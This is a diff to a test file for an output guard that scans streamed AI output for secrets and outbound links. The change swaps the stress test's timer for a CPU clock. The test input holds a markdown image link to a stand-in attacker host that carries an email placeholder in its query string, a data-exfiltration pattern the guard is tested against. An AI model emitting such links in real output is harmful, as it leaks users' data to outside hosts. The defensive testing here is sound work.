@@ -2,6 +2,7 @@ import { describe, expect, it } from "vitest";
 import { createOutputGuard, type OutputStep, type StreamRestorer } from "@/lib/guard/output/pipeline";
 import { REDACTED_SECRET, type SecretFinder } from "@/lib/guard/output/secrets";
 import type { GuardFinding } from "@/lib/guard/types";
+import { cpuNow } from "../support/cpu-clock";
 
 const CANARY = "cnry-q7x2mzk4v6pt5rjw2bha";
 // Assembled at run time: secret scanners flag realistic keys written out in files.
@@ -120,9 +121,9 @@ describe("createOutputGuard", () => {
     const unit = `![a](https://evil.example/x?q=[EMAIL_1]) ${KEY} ${CANARY.slice(0, 16)} [EMAIL_1] `;
     const text = unit.repeat(Math.ceil(1_000_000 / unit.length));
     const chunks = text.match(/[\s\S]{1,64}/g) ?? [];
-    const started = performance.now();
+    const started = cpuNow();
     const result = drive(chunks, { restore: fakeRestorer({ "[EMAIL_1]": "ann@example.com" }) });
-    expect(performance.now() - started).toBeLessThan(5_000);
+    expect(cpuNow() - started).toBeLessThan(5_000);
     expect(result.leaked).toBe(false);
     expect(result.text.includes(KEY)).toBe(false);
     expect(result.summary.map((f) => f.stage)).toEqual(["output_secrets", "output_links"]);
